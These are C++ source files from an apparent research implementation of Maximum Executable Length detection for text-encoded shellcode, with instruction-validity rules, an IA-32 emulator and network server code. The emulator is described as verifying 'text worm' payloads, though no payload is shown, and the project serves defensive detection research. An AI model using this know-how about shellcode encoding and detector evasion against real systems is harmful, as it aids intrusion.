  util::log_warn_ctx({.component = "net"}, "shard ", shard.index,
                     " wedged past rebuild_deadline; refused ",
                     stranded.size(), " stranded inbox connection(s)");
}

void MelServer::recover_shard(std::size_t index) {
  Shard& shard = *shards_[index];
  supervisor_->table().set_health(index, super::ShardHealth::kRebuilding);
  if (shard.thread.joinable()) shard.thread.join();

  const auto refuse_dirty = [&](int fd, const char* why) {
    // Typed verdict for work caught on the condemned shard: retryable
    // kUnavailable with a retry-after spanning the rebuild.
    const util::ByteBuffer refusal = encode_error(
        service::kDefaultTenant, 0,
        util::Status::unavailable(why).with_retry_after(
            2 * config_.loop_tick));
    (void)!util::fault::sock_write(fd, refusal.data(), refusal.size());
    ::close(fd);
    active_connections_.fetch_sub(1, std::memory_order_relaxed);
    shard.connections_dropped.fetch_add(1, std::memory_order_relaxed);
  };
  const auto refuse_in_flight = [&](int fd) {
    refuse_dirty(fd, "shard recovering: connection cannot be re-dealt");
  };

  if (util::fault::should_fire(util::fault::Point::kShardRebuildFailure)) {
    supervisor_->record_rebuild_failure();
    supervisor_->table().set_health(index, super::ShardHealth::kCondemned);
    util::log_warn_ctx({.component = "net"}, "shard ", index,
                       " rebuild failed (injected); retrying next tick");
    return;  // Connections stay parked for the retry.
  }

  // Salvage: a clean connection (no torn frame buffered, nothing left
  // to write) migrates whole to a healthy shard — its requests were all
  // answered, so no verdict is lost. Dirty connections are closed with
  // a refusal that says what was actually lost: a request in flight on
  // the wedged scan, responses computed but undelivered, or — the
  // harmless case — a partial frame the client was still writing (no
  // request was submitted; the close is only because the torn decoder
  // state cannot migrate).
  std::vector<int> redeal;
  for (auto& [fd, conn] : shard.connections) {
    const bool clean = conn.decoder.buffered_bytes() == 0 &&
                       conn.out_pos >= conn.out.size() &&
                       !conn.close_after_flush;
    if (clean) {
      redeal.push_back(fd);
    } else if (conn.scanning) {
      refuse_dirty(fd,
                   "shard recovering: request was in flight on a wedged "
                   "scan");
    } else if (conn.out_pos < conn.out.size() || conn.close_after_flush) {
      refuse_dirty(fd,
                   "shard recovering: responses were pending delivery on "
                   "the condemned shard");
    } else {
      refuse_dirty(fd,
                   "shard recovering: a partial frame was buffered; no "
                   "request was lost");
    }
  }
  shard.connections.clear();
  {
    // Accepted but never adopted: these saw no scan at all; re-deal.
    std::lock_guard<std::mutex> lock(shard.inbox_mutex);
    redeal.insert(redeal.end(), shard.inbox.begin(), shard.inbox.end());
    shard.inbox.clear();
  }
  if (shard.wake_read_fd >= 0) ::close(shard.wake_read_fd);
  if (shard.wake_write_fd >= 0) ::close(shard.wake_write_fd);
  shard.wake_read_fd = -1;
  shard.wake_write_fd = -1;

  util::Status rebuild_status;
  {
    // The stack replacement destroys and reconstructs shard.service;
    // holding the shard's service lock blocks the calibration fan-out
    // (and state() scrapes) for exactly that window. Released before
    // reapply() below — the fan-out it triggers takes the same lock
    // per shard.
    std::lock_guard<std::mutex> lock(shard.service_mutex);
    rebuild_status = build_shard_stack(shard);
  }
  if (!rebuild_status.is_ok()) {
    util::log_warn_ctx({.component = "net"}, "shard ", index,
                       " rebuild failed: ", rebuild_status.to_string());
    supervisor_->record_rebuild_failure();
    supervisor_->table().set_health(index, super::ShardHealth::kCondemned);
    // The salvaged fds cannot wait on a condemned shard; refuse them.
    for (int fd : redeal) refuse_in_flight(fd);
    return;
  }
  // Bring the fresh stack to the serving calibration: re-run each
  // StateManager's apply hook with its current state. The hook fans out
  // to every shard; re-applying is idempotent on the healthy ones.
  for (auto& [tenant, manager] : state_managers_) {
    if (util::Status status = manager->reapply(); !status.is_ok()) {
      util::log_warn_ctx({.component = "net"},
                         "calibration reapply failed for tenant ", tenant,
                         " during shard ", index, " rebuild: ",
                         status.to_string());
    }
  }

  shard.crash_exit = false;
  supervisor_->table().reset_for_rebuild(index, util::fault::now());
  supervisor_->record_rebuild();
  shard.thread = std::thread([this, raw = &shard] { shard_loop(*raw); });

  // Re-deal the survivors round-robin across healthy shards (the
  // rebuilt one included).
  for (int fd : redeal) {
    const std::size_t start =
        next_shard_.fetch_add(1, std::memory_order_relaxed) % shards_.size();
    bool placed = false;
    for (std::size_t probe = 0; probe < shards_.size(); ++probe) {
      const std::size_t candidate = (start + probe) % shards_.size();
      if (supervisor_->table().health(candidate) !=
          super::ShardHealth::kHealthy) {
        continue;
      }
      Shard& target = *shards_[candidate];
      {
        std::lock_guard<std::mutex> lock(target.inbox_mutex);
        target.inbox.push_back(fd);
      }
      wake(target);
      connections_redealt_.fetch_add(1, std::memory_order_relaxed);
      placed = true;
      break;
    }
    if (!placed) {
      ::close(fd);
      active_connections_.fetch_sub(1, std::memory_order_relaxed);
    }
  }
  util::log_info_ctx({.component = "net"}, "shard ", index,
                     " rebuilt (generation ",
                     supervisor_->table().generation(index), "), ",
                     redeal.size(), " connection(s) re-dealt");
}

void MelServer::shard_close(Shard& shard, int fd, bool dropped) {
  const auto it = shard.connections.find(fd);
  if (it == shard.connections.end()) return;
  (void)shard.poller.remove(fd);
  ::close(fd);
  shard.connections.erase(it);
  active_connections_.fetch_sub(1, std::memory_order_relaxed);
  if (dropped) {
    shard.connections_dropped.fetch_add(1, std::memory_order_relaxed);
  }
}

}  // namespace mel::net
