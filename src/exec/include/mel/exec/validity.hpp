#pragma once
// Validity policies: what makes a disassembled instruction "invalid"
// (error-raising) during pseudo-execution.
//
// The paper contrasts two definitions (Section 6):
//  * APE  — invalid only when the encoding is incorrect or a memory operand
//           touches an illegal (absolute, out-of-image) address;
//  * DAWN — additionally invalidates the text-specific cases: privileged
//           I/O instructions ('l','m','n','o'), memory access under a wrong
//           segment override, and (strict mode) addressing through an
//           uninitialized register.
// Every rule is an independent toggle so the ablation bench can measure the
// contribution of each (paper Section 3.3: "finding more ways to increase
// p is important").

#include <array>
#include <string_view>

#include "mel/disasm/instruction.hpp"
#include "mel/exec/cpu_state.hpp"

namespace mel::exec {

struct ValidityRules {
  /// Undefined/undecodable/truncated encodings raise #UD. Always sensible.
  bool undefined_opcode = true;
  /// HLT/CLI/STI/LGDT-class ring-0 instructions fault in user mode.
  bool privileged = true;
  /// IN/OUT/INS/OUTS fault at user level (IOPL). The DAWN text rule: the
  /// frequent letters l,m,n,o are exactly insb/insd/outsb/outsd.
  bool io_instructions = true;
  /// INT/INT3/INTO/INT1 abort or trap the process.
  bool interrupts = true;
  /// Far JMP/CALL/RET load an arbitrary selector: #GP.
  bool far_control_transfer = true;
  /// MOV seg / POP seg / LES / LDS with arbitrary data: #GP.
  bool segment_register_load = true;
  /// Memory access with a wrong segment override faults (paper: "wrong
  /// Segment Selector"). Which overrides are wrong is set below.
  bool wrong_segment_memory = true;
  /// Writes through cs: fault (code segment is not writable).
  bool cs_write = true;
  /// AAM 0 raises #DE. Statically decidable, unlike DIV.
  bool aam_zero = true;
  /// Absolute-address memory operands (disp-only / moffs) assumed illegal.
  /// The paper's conservative choice is OFF (register-spring exposes valid
  /// static addresses); APE's image-map check maps to ON here.
  bool absolute_memory = false;
  /// Memory addressing through an uninitialized base/index register is
  /// illegal. Requires CPU state (path explorer). DAWN strict mode.
  bool uninitialized_register_memory = false;

  /// Segment overrides considered wrong for data access. Defaults model a
  /// flat 32-bit Linux process: ds/ss/cs(read)/es fine, fs/gs wild.
  std::array<bool, 6> wrong_segment = {
      /*es=*/false, /*cs=*/false, /*ss=*/false,
      /*ds=*/false, /*fs=*/true,  /*gs=*/true,
  };

  /// DAWN's full rule set (strict: with the uninitialized-register rule).
  [[nodiscard]] static ValidityRules dawn(bool strict = false) {
    ValidityRules rules;
    rules.uninitialized_register_memory = strict;
    return rules;
  }

  /// APE's narrow definition: broken encodings and illegal absolute
  /// addresses only. No text-specific knowledge.
  [[nodiscard]] static ValidityRules ape() {
    ValidityRules rules;
    rules.privileged = false;
    rules.io_instructions = false;
    rules.interrupts = true;  // APE counted abort-raising int3 as invalid.
    rules.far_control_transfer = false;
    rules.segment_register_load = false;
    rules.wrong_segment_memory = false;
    rules.cs_write = false;
    rules.aam_zero = false;
    rules.absolute_memory = true;
    rules.uninitialized_register_memory = false;
    return rules;
  }
};

/// Why an instruction was ruled invalid (for diagnostics and the
/// per-rule ablation).
enum class InvalidReason : std::uint8_t {
  kValidInstruction = 0,
  kUndefinedOpcode,
  kPrivileged,
  kIoInstruction,
  kInterrupt,
  kFarTransfer,
  kSegmentLoad,
  kWrongSegment,
  kCsWrite,
  kAamZero,
  kAbsoluteMemory,
  kUninitializedRegister,
  // Dynamic-only reasons, reported by the ConcreteMachine emulator (the
  // static classifier never returns these).
  kIllegalMemory,  ///< Access to an unmapped address at run time.
  kDivideError,    ///< DIV/IDIV by zero or quotient overflow (#DE).
};

[[nodiscard]] std::string_view invalid_reason_name(InvalidReason reason) noexcept;

/// Classifies one instruction. `cpu` may be null; the uninitialized-register
/// rule is then skipped (it needs path state).
[[nodiscard]] InvalidReason classify_instruction(
    const disasm::Instruction& insn, const ValidityRules& rules,
    const AbstractCpu* cpu = nullptr) noexcept;

[[nodiscard]] inline bool is_valid_instruction(
    const disasm::Instruction& insn, const ValidityRules& rules,
    const AbstractCpu* cpu = nullptr) noexcept {
  return classify_instruction(insn, rules, cpu) ==
         InvalidReason::kValidInstruction;
}

}  // namespace mel::exec
