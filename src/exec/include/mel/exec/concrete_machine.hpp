#pragma once
// Concrete IA-32 user-mode emulator for the instruction subset the decoder
// models. Two jobs:
//
//  * Worm potency verification: actually run a text worm — sled, register
//    setup, decrypter, hops — and watch the binary payload materialize in
//    emulated stack memory. This replaces the paper's "run the vulnerable
//    program and observe the shell" with a hermetic equivalent.
//
//  * Ground truth for the validity policies: executing benign text until
//    the first fault must produce the same fault reason the static
//    classifier predicts (tested in test_exec_concrete_machine.cpp).
//
// The machine models registers, the arithmetic flags needed by the
// conditional instructions, and a two-region memory map (the input image
// and a stack). Anything the paper's rules call invalid faults here the
// same way: privileged I/O, wrong-segment access, out-of-map memory,
// interrupts stop execution.

#include <cstdint>
#include <functional>
#include <optional>
#include <vector>

#include "mel/disasm/instruction.hpp"
#include "mel/exec/validity.hpp"
#include "mel/util/bytes.hpp"

namespace mel::exec {

/// Why the machine stopped.
enum class StopReason : std::uint8_t {
  kRunning = 0,      ///< Budget not exhausted, no stop condition yet.
  kOutOfImage,       ///< EIP left the mapped image (fell off the end).
  kFault,            ///< An instruction faulted; see fault_reason.
  kInterrupt,        ///< INT/INT3/INTO executed (syscall boundary).
  kIndirectBranch,   ///< Branch target from register/memory left the map.
  kUnimplemented,    ///< Decoded fine but not modeled by the emulator.
  kBudget,           ///< Instruction budget exhausted.
};

[[nodiscard]] std::string_view stop_reason_name(StopReason reason) noexcept;

struct MachineConfig {
  std::uint32_t image_base = 0x08048000;  ///< Where the input is mapped.
  std::uint32_t stack_base = 0xBFFE0000;  ///< Bottom of the stack region.
  std::uint32_t stack_size = 64 * 1024;   ///< ESP starts at the top.
  /// Registers start with this garbage value (except ESP), mirroring the
  /// paper's uninitialized-register reality.
  std::uint32_t garbage = 0xDEADBEEF;
};

struct RunResult {
  StopReason reason = StopReason::kRunning;
  InvalidReason fault_reason = InvalidReason::kValidInstruction;
  std::uint64_t instructions_executed = 0;
  std::uint32_t final_eip = 0;
  /// Offset within the image of the instruction that stopped execution
  /// (valid unless the stop was kBudget/kOutOfImage).
  std::size_t stop_offset = 0;
};

class ConcreteMachine {
 public:
  explicit ConcreteMachine(util::ByteView image, MachineConfig config = {});

  /// Runs from the current EIP until a stop condition or the budget.
  RunResult run(std::uint64_t max_instructions = 1'000'000);

  /// Observer invoked for every instruction the machine is about to
  /// execute (after fetch/decode, before effects): (eip, instruction).
  /// Pass nullptr to disable. Debugger-style tracing for tools.
  using Tracer = std::function<void(std::uint32_t, const disasm::Instruction&)>;
  void set_tracer(Tracer tracer) { tracer_ = std::move(tracer); }

  // --- Architectural state ---------------------------------------------------
  [[nodiscard]] std::uint32_t reg(disasm::Gpr reg_id) const;
  void set_reg(disasm::Gpr reg_id, std::uint32_t value);
  [[nodiscard]] std::uint32_t eip() const noexcept { return eip_; }
  void set_eip(std::uint32_t eip) noexcept { eip_ = eip; }

  struct Flags {
    bool carry = false;
    bool zero = false;
    bool sign = false;
    bool overflow = false;
  };
  [[nodiscard]] const Flags& flags() const noexcept { return flags_; }

  // --- Memory ------------------------------------------------------------------
  /// Reads memory; nullopt when any byte is outside the mapped regions.
  [[nodiscard]] std::optional<std::uint32_t> read32(std::uint32_t addr) const;
  [[nodiscard]] std::optional<std::uint8_t> read8(std::uint32_t addr) const;
  [[nodiscard]] bool write32(std::uint32_t addr, std::uint32_t value);
  [[nodiscard]] bool write8(std::uint32_t addr, std::uint8_t value);
  /// Copies out [addr, addr+length); nullopt if any byte is unmapped.
  [[nodiscard]] std::optional<util::ByteBuffer> read_block(
      std::uint32_t addr, std::size_t length) const;

  [[nodiscard]] const MachineConfig& config() const noexcept {
    return config_;
  }
  /// Top-of-stack address ESP started at.
  [[nodiscard]] std::uint32_t initial_esp() const noexcept {
    return config_.stack_base + config_.stack_size;
  }

 private:
  struct StepOutcome {
    bool stopped = false;
    RunResult result;
  };
  StepOutcome step();

  /// Resolves a ModR/M memory operand's effective address.
  [[nodiscard]] std::uint32_t effective_address(
      const disasm::Operand& operand) const;

  // ALU helpers update flags like hardware.
  std::uint32_t alu_add(std::uint32_t a, std::uint32_t b, bool carry_in);
  std::uint32_t alu_sub(std::uint32_t a, std::uint32_t b, bool borrow_in);
  void set_logic_flags(std::uint32_t result);
  [[nodiscard]] bool condition_holds(std::uint8_t cc) const;

  bool push32(std::uint32_t value);
  std::optional<std::uint32_t> pop32();

  MachineConfig config_;
  util::ByteBuffer image_;
  util::ByteBuffer stack_;
  std::array<std::uint32_t, 8> regs_{};
  Flags flags_;
  std::uint32_t eip_ = 0;
  Tracer tracer_;
};

}  // namespace mel::exec
