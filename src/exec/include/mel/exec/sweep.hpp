#pragma once
// Linear-sweep stream analysis: disassemble back-to-back and classify each
// instruction under a validity policy. Feeds the paper's model-validation
// experiments — the Section 3.3 chi-square independence test over
// consecutive instruction validity, the empirical invalid-instruction
// probability p, and the measured average instruction length that
// Section 5.3 compares against the character-frequency prediction.

#include <vector>

#include "mel/disasm/instruction.hpp"
#include "mel/exec/validity.hpp"
#include "mel/util/bytes.hpp"

namespace mel::exec {

struct SweepAnalysis {
  std::vector<disasm::Instruction> instructions;
  std::vector<InvalidReason> classifications;  ///< Parallel to instructions.

  std::size_t instruction_count = 0;
  std::size_t invalid_count = 0;
  double invalid_fraction = 0.0;           ///< Empirical p.
  double average_instruction_length = 0.0; ///< Bytes per instruction.

  [[nodiscard]] bool is_valid(std::size_t i) const {
    return classifications[i] == InvalidReason::kValidInstruction;
  }
};

/// Disassembles `bytes` linearly from offset 0 and classifies every
/// instruction under `rules` (position-local rules only; the sweep carries
/// no CPU state).
[[nodiscard]] SweepAnalysis analyze_sweep(util::ByteView bytes,
                                          const ValidityRules& rules);

/// Per-rule invalidity census: how many instructions each rule fired on.
/// Index by static_cast<size_t>(InvalidReason).
[[nodiscard]] std::vector<std::size_t> invalidity_census(
    const SweepAnalysis& analysis);

}  // namespace mel::exec
