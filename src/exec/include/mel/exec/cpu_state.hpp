#pragma once
// Abstract CPU register state for pseudo-execution (DAWN strict mode).
//
// Each general-purpose register is tracked as Uninitialized (garbage at
// path entry), Initialized (defined but unknown value), or Known (constant
// propagated from immediates). The paper's "illegal memory access via
// uninitialized register" rule (Section 2.4) keys off this lattice.

#include <array>
#include <cstdint>

#include "mel/disasm/instruction.hpp"

namespace mel::exec {

enum class RegState : std::uint8_t {
  kUninit = 0,  ///< Never written on this path: arbitrary garbage.
  kInit,        ///< Written from memory/stack: defined, value unknown.
  kKnown,       ///< Constant-propagated value available.
};

class AbstractCpu {
 public:
  /// Fresh path state: all registers uninitialized except ESP, which the
  /// hosting process guarantees to be a valid stack pointer.
  AbstractCpu();

  [[nodiscard]] RegState state(disasm::Gpr reg) const noexcept;
  [[nodiscard]] std::uint32_t known_value(disasm::Gpr reg) const noexcept;

  void set_uninit(disasm::Gpr reg) noexcept;
  void set_init(disasm::Gpr reg) noexcept;
  void set_known(disasm::Gpr reg, std::uint32_t value) noexcept;

  /// True when the register may hold garbage (the invalidity trigger).
  [[nodiscard]] bool is_uninitialized(disasm::Gpr reg) const noexcept {
    return state(reg) == RegState::kUninit;
  }

  /// Applies the register effects of one decoded instruction (constant
  /// propagation for mov/alu/inc/dec/xchg/lea/pop/popa/xor-clear etc.;
  /// anything unmodeled conservatively degrades written registers to
  /// kInit). Memory contents are not tracked.
  void apply(const disasm::Instruction& insn) noexcept;

  /// Equality is used by the path explorer for state memoization.
  bool operator==(const AbstractCpu& other) const noexcept = default;

  /// Order-insensitive hash for memoization tables.
  [[nodiscard]] std::uint64_t hash() const noexcept;

 private:
  std::array<RegState, 8> states_{};
  std::array<std::uint32_t, 8> values_{};
};

}  // namespace mel::exec
