#pragma once
// MEL (Maximum Executable Length) computation over a byte stream.
//
// Definition (paper Section 2.2): the length, in instructions, of the
// longest error-free execution path, taking every byte offset as a
// potential entry point and following both sides of conditional branches.
//
// Three engines, trading fidelity to the probabilistic model against
// path coverage:
//  * Linear sweep — the stream is disassembled back to back exactly as the
//    model of Section 3 describes (n = C / E[instruction length]
//    instructions, runs terminated by invalid instructions); the MEL is
//    the longest valid run. This is the model-faithful measurement the
//    Section 5 evaluation numbers correspond to, and the default.
//  * DAG dynamic program — every byte offset is an entry point and both
//    sides of each conditional branch are followed (APE's view). Exact and
//    O(stream length) for position-local validity rules: text streams only
//    contain forward jumps (a text rel8 is 0x20..0x7E, always positive),
//    so the control-flow graph over offsets is acyclic. Taking the maximum
//    over ~C entry points and all branch forks inflates benign MELs well
//    above the single-stream law — the ablation bench quantifies this.
//  * Path explorer — pseudo-execution with an AbstractCpu per path,
//    enabling the uninitialized-register rule (DAWN strict mode); bounded
//    by a step budget and a per-path visited set (loops are flagged).
//  * Cached DAG — the DAG dynamic program re-expressed over a decode-once
//    per-window instruction cache (instruction_cache.hpp): same results
//    bit for bit, but each offset is scanned once with the facts-only
//    decoder (O(n) per window), never-valid first bytes are skipped by a
//    256-entry prefilter, and overlapping stream windows reuse entries.

// Thread-safety: every function here is a pure computation over its
// arguments — no global mutable state (the fault hooks consulted at
// deadline checkpoints are atomic) — so distinct threads may run
// compute_mel concurrently. A MelScratch instance, however, belongs to
// exactly one thread at a time (one per pool worker).

#include <chrono>
#include <cstdint>
#include <optional>
#include <vector>

#include "mel/disasm/instruction.hpp"
#include "mel/exec/instruction_cache.hpp"
#include "mel/exec/validity.hpp"
#include "mel/util/bytes.hpp"
#include "mel/util/status.hpp"

namespace mel::exec {

enum class MelEngine : std::uint8_t {
  kLinearSweep = 0,  ///< Model-faithful single-stream run length (default).
  kAllPathsDag,      ///< Every entry offset + branch forking, DP.
  kPathExplorer,     ///< Every entry offset + CPU state (strict rules).
  kCachedDag,        ///< kAllPathsDag semantics over a decode-once cache:
                     ///< bit-identical results, O(n) per window. Appended
                     ///< after kPathExplorer so persisted engine numbers
                     ///< stay stable.
};

struct MelOptions {
  ValidityRules rules = ValidityRules::dawn();
  MelEngine engine = MelEngine::kLinearSweep;
  /// Path-explorer step budget across all entry points.
  std::uint64_t step_budget = 2'000'000;
  /// Stop early once the MEL exceeds this value (<0: never). Detectors set
  /// this to their threshold: anything beyond it is already malicious.
  std::int64_t early_exit_threshold = -1;
  /// Hard cap on instructions decoded, enforced by every engine (0 =
  /// unlimited). When it trips, MelResult::budget_exhausted is set and the
  /// returned mel is a lower bound.
  std::uint64_t decode_budget = 0;
  /// Wall-clock deadline checked every kDeadlineCheckInterval decodes
  /// against the skew-aware scan clock (util::fault::now()). When it
  /// trips, MelResult::deadline_exceeded is set and mel is a lower bound.
  std::optional<std::chrono::steady_clock::time_point> deadline;
  /// kCachedDag only: stream-absolute offset of bytes[0], keying the
  /// decode cache so overlapping windows of the same stream reuse entries.
  std::uint64_t cache_stream_offset = 0;
  /// kCachedDag only: permit the scratch's cache to reuse entries from its
  /// previous window. Caller contract: the overlapping byte range is the
  /// same underlying stream data (StreamDetector's sliding buffer is).
  bool cache_reuse = false;

  /// kInvalidConfig when the combination is unusable (e.g. a zero step
  /// budget); OK otherwise. Service layers validate before scanning.
  [[nodiscard]] util::Status validate() const;
};

/// How often (in decoded instructions / explorer steps) the engines check
/// the deadline. Power of two; the check is a masked counter compare.
inline constexpr std::uint64_t kDeadlineCheckInterval = 256;

struct MelResult {
  std::int64_t mel = 0;               ///< The maximum executable length.
  std::size_t best_entry_offset = 0;  ///< Entry point achieving it.
  bool loop_detected = false;    ///< A cycle was reached (binary streams).
  bool budget_exhausted = false; ///< Step/decode budget ran out; mel is a lower bound.
  bool deadline_exceeded = false; ///< Deadline passed mid-scan; mel is a lower bound.
  bool early_exit = false;       ///< Stopped at early_exit_threshold.
  std::uint64_t instructions_decoded = 0;

  /// True when the engine stopped before exhausting the stream for a
  /// resource reason (budget or deadline) — the mel is only a lower bound
  /// and callers should degrade rather than trust a benign-looking value.
  [[nodiscard]] bool truncated_by_limits() const noexcept {
    return budget_exhausted || deadline_exceeded;
  }
};

/// Reusable per-worker buffers for the DAG and path-explorer engines.
/// Both need O(stream length) working vectors; re-scanning through one
/// scratch turns that into an amortized no-op (capacity is retained
/// across scans) instead of a heap round-trip per payload. Results are
/// bit-for-bit identical with or without a scratch — the buffers are
/// fully re-initialized each scan. Not thread-safe: one scratch per
/// worker thread. The linear sweep allocates nothing and ignores it.
struct MelScratch {
  std::vector<std::int32_t> longest;           ///< DAG run-length table.
  /// kCachedDag run-length table for windows under 32 Ki bytes (a MEL is
  /// at most n, so int16 suffices and halves the DP's hot footprint).
  std::vector<std::int16_t> longest16;
  std::vector<disasm::Instruction> decoded;    ///< Explorer decode cache.
  std::vector<std::uint8_t> decoded_yet;       ///< Explorer cache validity.
  std::vector<std::uint8_t> on_path;           ///< Explorer cycle marks.
  InstructionCache cache;                      ///< kCachedDag decode cache.
};

/// Computes the MEL of `bytes` under `options`, dispatching on
/// options.engine. The uninitialized-register rule requires the path
/// explorer and forces it regardless of the engine selection.
[[nodiscard]] MelResult compute_mel(util::ByteView bytes,
                                    const MelOptions& options = {});

/// As above, reusing `scratch`'s buffers instead of allocating (hot batch
/// paths; same result bit for bit).
[[nodiscard]] MelResult compute_mel(util::ByteView bytes,
                                    const MelOptions& options,
                                    MelScratch& scratch);

/// Forces the linear-sweep engine (exposed for tests/benches).
[[nodiscard]] MelResult compute_mel_sweep(util::ByteView bytes,
                                          const MelOptions& options);

/// Forces the DAG engine (exposed for tests/benches).
[[nodiscard]] MelResult compute_mel_dag(util::ByteView bytes,
                                        const MelOptions& options);
[[nodiscard]] MelResult compute_mel_dag(util::ByteView bytes,
                                        const MelOptions& options,
                                        MelScratch& scratch);

/// Forces the cached-DAG engine: kAllPathsDag results bit for bit
/// (verdict, mel, entry offset, degraded flags, instructions_decoded),
/// computed over the scratch's decode-once cache.
[[nodiscard]] MelResult compute_mel_cached(util::ByteView bytes,
                                           const MelOptions& options);
[[nodiscard]] MelResult compute_mel_cached(util::ByteView bytes,
                                           const MelOptions& options,
                                           MelScratch& scratch);

/// Forces the path explorer (exposed for tests/benches).
[[nodiscard]] MelResult compute_mel_explorer(util::ByteView bytes,
                                             const MelOptions& options);
[[nodiscard]] MelResult compute_mel_explorer(util::ByteView bytes,
                                             const MelOptions& options,
                                             MelScratch& scratch);

/// Per-entry-offset executable lengths (instructions executable starting
/// at each byte offset, following branches, position-local rules only).
/// This is the quantity APE samples and Stride scans windows of.
[[nodiscard]] std::vector<std::int32_t> compute_execable_lengths(
    util::ByteView bytes, const ValidityRules& rules);

/// Per-entry-offset reachability: the furthest byte offset (exclusive)
/// reachable error-free when starting execution at each offset. Backward
/// targets contribute their instruction's end. Used by sled detection.
[[nodiscard]] std::vector<std::size_t> compute_reach(
    util::ByteView bytes, const ValidityRules& rules);

}  // namespace mel::exec
