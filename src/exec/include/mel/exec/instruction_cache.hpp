#pragma once
// Decode-once instruction cache: the data structure behind the kCachedDag
// MEL engine.
//
// One bind() pass scans every offset of a window with the facts-only scan
// decoder (src/disasm/scan_decoder.hpp), classifies each offset under a
// fixed ValidityRules, and stores the result as 4 bytes per offset across
// two columns:
//
//   len_succ  packed: encoded length (1..15), control-flow successor
//             class (CacheSucc below), wide-rel flag
//   rel16     relative branch displacement (kBranch/kCondBranch only);
//             the rare displacement outside int16 is re-read from the
//             window bytes via the wide-rel flag
//
// The DAG longest-run DP then runs directly over these columns — no
// Instruction materialization, no re-decode, one cache line per 32
// offsets of length/succ — so MEL is O(n) per window with a small
// constant and an L1-resident working set for 4 KiB windows.
//
// Three accelerations on top of the single pass:
//
//  * First-byte prefilter: a 256-entry table of bytes that can NEVER start
//    a valid instruction under the bound rules (e.g. 0x6C insb when the
//    io_instructions rule is on, or undefined opcodes). Offsets starting
//    with such a byte are classified kInvalid without running the scan
//    decoder at all. The table is sound only when rules.undefined_opcode
//    is on (otherwise a truncated suffix of ANY opcode classifies valid);
//    with it off the prefilter is disabled.
//
//  * Structural scan memo: ScanFacts::structure_len says how many leading
//    bytes of an encoding determine every fact except the relative
//    displacement VALUE. Scans whose structure fits in the first two bytes
//    (plain opcodes, opcode+ModR/M, prefix+opcode) are memoized in a dense
//    65536-entry pair table; structures of three or four bytes (ModR/M
//    with SIB, prefix chains, 0x0F page) go to a small open-addressing
//    hash keyed by the first four bytes. Later offsets whose leading bytes
//    match a memoized entry emit length/validity/succ by lookup and read
//    only the relative displacement from the window. Entries are inserted
//    only from scans that ran at least kMaxDecodeReach bytes clear of the
//    window end (so no entry bakes in a truncation), and a lookup applies
//    only when the entry's full length fits the window — otherwise the
//    offset falls back to a real scan, keeping emitted columns identical
//    whether the memo is warm or cold. Same soundness gate as the
//    prefilter (rules.undefined_opcode on, so short tails classify
//    #UD-invalid); both memos reset when the bound rules change.
//
//  * Cross-window reuse: windows of a stream overlap (StreamDetector keeps
//    `overlap` bytes of history). bind() is keyed by the stream-absolute
//    offset of the window start; when the same scratch is re-bound to a
//    window that slid forward over the same underlying stream, entries for
//    the shared bytes are shifted left instead of re-scanned. Only entries
//    whose full decode reach (kMaxDecodeReach bytes) fit inside the
//    PREVIOUS window are reused — entries near the old window end saw its
//    truncation boundary and must be re-scanned. Callers assert the
//    contract that the overlapping byte ranges are identical (true for
//    StreamDetector's sliding buffer).
//
// The cache is NOT thread-safe; it lives in MelScratch (one per worker).

#include <array>
#include <cstdint>
#include <vector>

#include "mel/disasm/scan_decoder.hpp"
#include "mel/exec/validity.hpp"
#include "mel/util/bytes.hpp"

namespace mel::exec {

/// Control-flow successor class of a cache entry, mirroring
/// successor_offsets() over a full Instruction (same check order:
/// ret/indirect/far first, then conditional, then unconditional/call).
enum class CacheSucc : std::uint8_t {
  kInvalid = 0,  ///< Offset does not start a valid instruction: run ends.
  kNone,         ///< Valid, but the path stops (ret / indirect / far).
  kFall,         ///< Fall-through only (the common case).
  kBranch,       ///< Relative JMP/CALL: target only.
  kCondBranch,   ///< Jcc/LOOPcc/JECXZ: fall-through and target.
};

/// Packed per-offset classification word: bits 0..7 encoded length,
/// bits 8..10 CacheSucc, bit 11 the wide-rel flag. Together with the
/// int16 rel column this is 4 bytes per offset — a 4 KiB window's whole
/// classification (16 KiB) stays L1-resident alongside the DP table.
inline constexpr std::uint16_t kCacheLenMask = 0x00FF;
inline constexpr unsigned kCacheSuccShift = 8;
/// Set when the relative displacement does not fit int16. Such a
/// displacement is always a trailing 4-byte field (rel8/rel16 values fit
/// by construction), so readers recover it from the window bytes at
/// offset + length - 4 instead of the rel column.
inline constexpr std::uint16_t kCacheWideRel = 0x0800;

/// Lifetime counters (accumulated across binds of one cache instance).
struct InstructionCacheStats {
  std::uint64_t binds = 0;
  std::uint64_t scanned = 0;            ///< Full scan-decoder invocations.
  std::uint64_t prefilter_skipped = 0;  ///< Classified by first byte alone.
  std::uint64_t pair_memo_hits = 0;     ///< Classified by a structural memo.
  std::uint64_t reused = 0;             ///< Shifted from the previous bind.
};

class InstructionCache {
 public:
  /// Builds (or incrementally rebuilds) the cache for `bytes` under
  /// `rules`. `stream_offset` is the stream-absolute position of bytes[0]
  /// (0 for standalone payloads). When `allow_reuse` is set and this cache
  /// was previously bound to the same rules at an earlier-or-equal stream
  /// offset, overlapping entries are shifted instead of re-scanned; the
  /// caller guarantees the overlapping bytes are unchanged. `build_floor`
  /// skips entries below that offset (they are never read when a decode
  /// budget trips first); a floored build is never reused.
  void bind(util::ByteView bytes, const ValidityRules& rules,
            std::uint64_t stream_offset = 0, bool allow_reuse = false,
            std::size_t build_floor = 0);

  /// Re-scans the entries a single-byte mutation at `mutated` can affect:
  /// exactly [mutated - kMaxDecodeReach + 1, mutated]. The caller passes
  /// the already-mutated bytes (same window the cache is bound to).
  void update_byte(util::ByteView bytes, std::size_t mutated);

  [[nodiscard]] std::size_t size() const noexcept { return len_succ_.size(); }
  [[nodiscard]] std::uint8_t length(std::size_t offset) const noexcept {
    return static_cast<std::uint8_t>(len_succ_[offset] & kCacheLenMask);
  }
  [[nodiscard]] CacheSucc succ(std::size_t offset) const noexcept {
    return static_cast<CacheSucc>((len_succ_[offset] >> kCacheSuccShift) &
                                  0x7);
  }
  /// Relative displacement of the entry at `offset`. Takes the window the
  /// cache is bound to: a wide displacement lives in the window bytes, not
  /// the 2-byte rel column.
  [[nodiscard]] std::int32_t rel(util::ByteView bytes,
                                 std::size_t offset) const noexcept {
    const std::uint16_t word = len_succ_[offset];
    if (word & kCacheWideRel) {
      return static_cast<std::int32_t>(
          util::load_le32(bytes, offset + (word & kCacheLenMask) - 4));
    }
    return rel16_[offset];
  }
  /// Raw column pointers for the DP hot loop (valid until the next bind).
